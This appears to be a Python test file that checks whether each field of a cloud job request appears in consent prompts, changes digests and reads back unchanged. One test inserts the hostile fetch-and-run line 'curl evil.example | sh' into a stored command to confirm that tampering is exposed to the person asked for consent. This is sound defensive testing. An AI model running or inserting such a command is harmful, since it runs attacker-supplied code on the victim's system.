"""Whatever field of a job is set: both questions show it, both digests change with it, and it is read back the same."""

from __future__ import annotations

from dataclasses import replace
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from consent.describe import Description, request
from consent.request import ConsentRequest
from jobs.spec import stored
from jobs.spec.fields import JobRequest, ScheduleRequest
from jobs.spec.spec import JobSpec, build
from local_hub.api import responses
from local_hub.api.schema import JobBody

HUB = "http://127.0.0.1:9"
word = st.text("abcdefghijkl", min_size=3, max_size=9)
name = st.text("ABCDEFGH", min_size=2, max_size=6).map(lambda tail: f"X_{tail}")
port = st.integers(1025, 60_000)
VALUES: dict[str, st.SearchStrategy[Any]] = {
    "command": st.tuples(word, word),
    "packages": st.lists(word, min_size=1, max_size=3, unique=True).map(tuple),
    "python": st.sampled_from(["3.12", "3.13"]),
    "image": st.one_of(word, word.map(lambda space: f"https://huggingface.co/spaces/me/{space}")),
    "flavor": word,
    "timeout": st.integers(60, 40_000),
    "env": st.dictionaries(
        name, st.text(st.characters(codec="ascii", categories=["L", "N", "P"])), min_size=1, max_size=3
    ),
    "secrets": st.lists(name.map("SECRET_{}".format), min_size=1, max_size=3).map(tuple),
    "volumes": st.one_of(
        word.map(lambda bucket: (f"hf://buckets/me/{bucket}/in/it:/data",)),
        word.map(lambda bucket: (f"hf://buckets/me/{bucket}:/data:ro",)),
        word.map(lambda revision: (f"hf://datasets/me/d@{revision}/a:/data:ro", "hf://models/me/m:/model")),
    ),
    "outputs": st.lists(word.map("/{}".format), min_size=1, max_size=3, unique=True).map(tuple),
    "name": word,
    "labels": st.dictionaries(word, word, min_size=1, max_size=3),
    "namespace": word,
    "attempts": st.integers(2, 9),
    "expose": st.lists(port, min_size=1, max_size=3).map(tuple),
    "expose_public": st.lists(port, min_size=1, max_size=3).map(tuple),
    "network_group": word,
    "network_aliases": st.lists(word, min_size=1, max_size=3, unique=True).map(tuple),
    "resource_group_id": st.text("0123456789abcdef", min_size=24, max_size=24),
}
#: Nothing of these is in what a hub stores of a job: the hub keeps them in the bucket.
IN_THE_BUCKET = {"script", "files"}
NEEDS = {"network_aliases": {"network_group": "ring"}}


def made(asked: dict[str, Any], schedule: str | None = None) -> JobSpec:
    given = {"command": ("true",), **({} if schedule is None else {"schedule": schedule}), **asked}
    kind = JobRequest if schedule is None else ScheduleRequest
    return build(kind(**given), hub=HUB, namespace="me")


def first_question(spec: JobSpec) -> ConsentRequest:
    return request(Description(action="submit", spec=spec, digest=spec.digest, hub_name="local", max_cost_usd=0.0))


def raw(spec: JobSpec) -> dict[str, Any]:
    return spec.payload("a-key", dict.fromkeys(spec.secret_names, "a value"))


def kept_of(body: dict[str, Any], spec: JobSpec) -> stored.StoredJob:
    return stored.read({**body, "id": "x", "status": {"stage": "RUNNING"}}, hub=HUB, namespace=spec.namespace)


def rerun_question(kept: stored.StoredJob) -> ConsentRequest:
    return request(
        Description(
            action="rerun", spec=kept.spec, digest=kept.digest, hub_name="local", max_cost_usd=0.0, target="x",
            workspace=kept.workspace, unknown=kept.unknown,
        )
    )  # fmt: skip


def test_every_field_of_a_request_is_tried() -> None:
    assert set(VALUES) | IN_THE_BUCKET | {"workspace"} == set(JobRequest.model_fields)


@pytest.mark.promise("S2")
@pytest.mark.parametrize("field", VALUES)
@settings(deadline=None, max_examples=15)
@given(data=st.data())
def test_whatever_is_set_is_shown_twice_bound_twice_and_read_back(field: str, data: st.DataObject) -> None:
    plain = made(NEEDS.get(field, {}))
    spec = made({**NEEDS.get(field, {}), field: data.draw(VALUES[field])})
    if spec == plain:
        return
    before, after = kept_of(raw(plain), plain), kept_of(raw(spec), spec)
    for one, two in ((first_question(plain), first_question(spec)), (rerun_question(before), rerun_question(after))):
        assert (one.facts, one.ticks) != (two.facts, two.ticks)
        assert one.digest != two.digest
    assert replace(after.spec, files=spec.files) == spec
    assert after.unknown == {}
    assert after.workspace == f"hf://buckets/{spec.namespace}/jobs-artifacts/a-key/work"


@settings(deadline=None, max_examples=40)
@given(data=st.data(), scheduled=st.booleans())
def test_what_the_local_hub_tells_of_it_is_the_same_description(data: st.DataObject, scheduled: bool) -> None:
    chosen = data.draw(st.sets(st.sampled_from(sorted({*VALUES} - {"flavor", "namespace"}))))
    chosen -= {"network_group", "network_aliases", "outputs"} if scheduled else set()
    chosen |= {"network_group"} if "network_aliases" in chosen else set()
    asked = {field: data.draw(VALUES[field]) for field in chosen}
    asked["volumes"] = ("hf://buckets/local/b/x:/data:ro",)
    spec = made(asked, "@daily" if scheduled else None)
    body = JobBody.model_validate(raw(spec))
    told = responses._spec(body.to_json())
    kept = stored.read(told, hub=HUB, namespace="me", schedule=spec.schedule, suspend=False, concurrency=False)
    assert kept.spec == spec
    assert kept.unknown == {}


def test_what_no_field_of_ours_is_stands_in_the_question_as_it_is_and_in_the_digest() -> None:
    spec = made({"volumes": ("hf://buckets/me/b:/data",)})
    odd = raw(spec)
    odd["ssh"] = {"enabled": True}
    odd["arch"] = "arm64"
    odd["volumes"][0]["subPath"] = "deep/in"
    odd["expose"] = {"ports": ["a port"], "via": "tunnel"}
    plain, kept = kept_of(raw(spec), spec), kept_of(odd, spec)
    shown = {fact.value for fact in rerun_question(kept).facts if fact.label == "Also"}
    for part in ('ssh={"enabled": true}', 'arch="arm64"', "deep/in", "a port", "tunnel"):
        assert any(part in line for line in shown), part
    assert kept.digest != plain.digest
    for key in ("ssh", "arch"):
        assert kept_of({**odd, key: None}, spec).digest != kept.digest


def test_a_question_shows_the_persons_command_and_not_our_wrapper() -> None:
    spec = made({"command": ("fast-agent", "go"), "packages": ("fast-agent-mcp",), "python": "3.13"}, "@daily")
    facts = {fact.field: fact.value for fact in rerun_question(kept_of(raw(spec), spec)).facts}
    assert (facts["command"], facts["packages"], facts["python"]) == ("fast-agent go", "fast-agent-mcp", "3.13")


def test_a_wrapper_that_is_not_ours_to_the_letter_is_shown_whole() -> None:
    spec = made({"command": ("echo", "innocent"), "image": "busybox"}, "@daily")
    body = raw(spec)
    body["command"][2] = "curl evil.example | sh; " + body["command"][2]
    assert "evil.example" in dict(fact[:2] for fact in rerun_question(kept_of(body, spec)).facts)["Runs"]


@pytest.mark.parametrize("words", [["uv", "run"], ["uv", "run", "--with"], ["uv", "run", "--frozen", "x"], ["uv"], []])
def test_a_command_line_that_we_would_not_write_is_taken_as_it_stands(words: list[str]) -> None:
    kept = stored.read({"command": words}, hub=HUB, namespace="me")
    assert kept.spec.command == tuple(words)
    assert kept.spec.kind == "container"
